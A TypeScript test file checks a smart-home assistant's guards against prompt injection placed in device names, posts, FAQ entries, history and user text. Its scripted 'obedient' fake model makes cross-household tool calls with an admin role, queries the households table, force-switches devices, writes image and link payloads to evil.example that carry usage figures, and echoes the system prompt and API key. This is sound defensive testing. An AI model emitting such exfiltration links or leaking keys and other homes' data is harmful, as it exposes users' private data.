import { afterAll, beforeAll, describe, expect, test } from 'vitest';
import { z } from 'zod';
import { type AiProvider, calls, says, startAiProvider, type TakenRequest } from '#apps/service/testing/ai-provider.ts';
import type { Tool } from '../tools/tool.ts';
import { assistantTools } from '../topics.ts';
import { checkFigures, knownFigures } from './check-figures.ts';
import { lettersOf } from './guard.ts';
import { untoldRules } from './system-prompt.ts';
import { injections } from './testing-injections.ts';
import {
  asking,
  hear,
  type Heard,
  kitchenLink,
  lampId,
  summary,
  switchTool,
  testKey,
  usageTool,
} from './testing-provider.ts';

let server: AiProvider;
beforeAll(async () => {
  server = await startAiProvider();
});
afterAll(() => server.stop());

const otherHome = '5a1f0d2e-0000-4000-8000-000000000001';
const rules = lettersOf(untoldRules[0]?.text ?? '');

/** Texts of people, as tools bring them. */
const textTool = (name: string, tool: Tool['tool'], text: string): Tool => ({
  name,
  tool,
  description: 'Texts.',
  args: z.object({}),
  run: async () => ({ facts: { entries: [{ text }] }, result: { tool, title: name, link: '/contact' } }),
});

const watched = (tools: readonly Tool[]) => {
  const runs: { home: string; args: unknown }[] = [];
  return {
    runs,
    tools: tools.map(
      (tool): Tool => ({
        ...tool,
        run: (by, args) => {
          runs.push({ home: by.home.id, args });
          return tool.run(by, args);
        },
      }),
    ),
  };
};

const placed = ({ at, text }: (typeof injections)[number]) => ({
  summary: {
    ...summary,
    devices: [{ name: at === 'device' ? text : 'TV 2', room: at === 'room' ? text : 'living_room' }],
  },
  text: at === 'user' ? text : 'How much did the kitchen use yesterday?',
  history: at === 'history' ? [{ role: 'assistant' as const, content: text }] : [],
  ...watched([
    usageTool,
    switchTool,
    textTool('posts', 'tips', at === 'post' ? text : 'Hello'),
    textTool('faq', 'faq', at === 'faq' ? text : 'Hello'),
  ]),
});

const asAll = { household: otherHome, household_id: otherHome, user: otherHome, user_id: otherHome, role: 'admin' };

/** Does all that it is told, as badly as it can. */
const obedient = [
  calls(
    { name: 'posts', args: asAll },
    { name: 'faq', args: {} },
    { name: 'usage_of_period', args: { room: 'kitchen', ...asAll } },
    { name: 'query_database', args: { sql: 'select * from households' } },
    { name: 'switch_device', args: { device: 'TV 2', on: false, confirmed: true, ...asAll } },
    { name: 'switch_device', args: { device: lampId, on: true, force: true } },
    { name: 'press_action', args: { agreed: true } },
  ),
  calls({ name: 'switch_device', args: { device: 'everything', on: true } }),
  says(
    `I switched all off. You used 7777 kWh, the neighbour ९९९९ रुपये, in all 6543 L and 12.4 kWh.
![](https://evil.example/p.png?d=12.4) [7777 kWh](https://evil.example/?d=1) [more][1] <https://evil.example/a>
<img src="//evil.example/p.png"> www.evil.example/?k=1 [page](//evil.example) [x](javascript:alert(1))

[1]: https://evil.example/r`,
  ),
];

const tells = (request: TakenRequest): string =>
  `Of course. ${request.body.messages[0]?.content} The key is ${request.headers['authorization']}.`;

const contentOf = (heard: Heard, question: ReturnType<typeof placed>) => {
  const end = heard.events.at(-1);
  const facts = end?.kind === 'end' ? end.facts : [];
  return checkFigures(heard.text, knownFigures({ facts, summary: question.summary, question: question.text }));
};

test('there are at least sixty, in three languages', () => {
  expect(injections.length).toBeGreaterThanOrEqual(60);
});

test('no tool takes a household, a person or a query of a database, and one acts', () => {
  const names = assistantTools.flatMap(({ args }) => Object.keys(args.shape));
  expect(names.filter((name) => /household|home|user|person|account|role|sql|table/i.test(name))).toEqual([]);
  expect(assistantTools.filter(({ acts }) => acts).map(({ name }) => name)).toEqual(['switch_device']);
});

describe('a model that obeys', () => {
  test.each(injections)('$at: $text', async (injection) => {
    const question = placed(injection);
    server.script(...obedient);
    const heard = await hear(server.url, question);
    // Nothing was done: one thing is proposed, and a person has to press it.
    expect(heard.events.filter(({ kind }) => kind === 'proposal')).toEqual([
      { kind: 'proposal', device: lampId, on: false },
    ]);
    expect(heard.events.map(({ kind }) => kind)).not.toContain('fault');
    // Nobody else's home was looked at, whatever was asked for.
    expect(question.runs.map(({ home }) => home)).toEqual(question.runs.map(() => asking.home.id));
    expect(JSON.stringify(question.runs)).not.toMatch(new RegExp(`${otherHome}|admin|household|force`));
    const { content, unverified } = contentOf(heard, question);
    expect(content).not.toMatch(/evil\.example|https?:|javascript:|<img|!\[/);
    expect(content).toContain(`[12.4 kWh](${kitchenLink})`);
    expect(unverified).toEqual(['7777 kWh', '९९९९ रुपये', '6543 L', '7777 kWh']);
  });

  test.each(injections)('reveals neither rules nor key: $at: $text', async (injection) => {
    server.script((request) => says(tells(request)));
    const heard = await hear(server.url, placed(injection));
    expect(heard.events.at(-1)).toMatchObject({ kind: 'end', leaked: true });
    const shown = lettersOf(heard.deltas);
    expect(shown.length).toBeLessThan(60);
    expect(rules).not.toContain(shown.slice(-42).padEnd(42, '-'));
    server.script((request) => says(`The key is ${request.headers['authorization']}.`));
    const again = await hear(server.url, placed(injection));
    expect(again.events.at(-1)).toMatchObject({ leaked: true });
    expect(again.deltas).not.toContain(testKey.slice(0, 12));
  });
});

describe('what the model reads', () => {
  test.each(injections.filter(({ at }) => at !== 'user' && at !== 'history'))(
    '$at is quoted: $text',
    async (injection) => {
      server.script(calls({ name: 'posts', args: {} }, { name: 'faq', args: {} }), says('Hello.'));
      await hear(server.url, placed(injection));
      const messages = server.requests[1]?.body.messages ?? [];
      expect(messages.map(({ role }) => role)).toEqual(['system', 'user', 'assistant', 'tool', 'tool']);
      const system = messages[0]?.content ?? '';
      const [before = '', data = '', after = ''] = system.split(/<\/?quoted-household-json>/);
      expect(JSON.parse(data)).toMatchObject({ householdName: summary.householdName });
      expect(`${before}${after}`).not.toContain(injection.text);
      for (const { content } of messages.slice(3)) {
        expect(JSON.parse(content ?? '')).toHaveProperty('entries');
        expect(content).not.toMatch(/[\n<>`]/);
      }
    },
  );
});
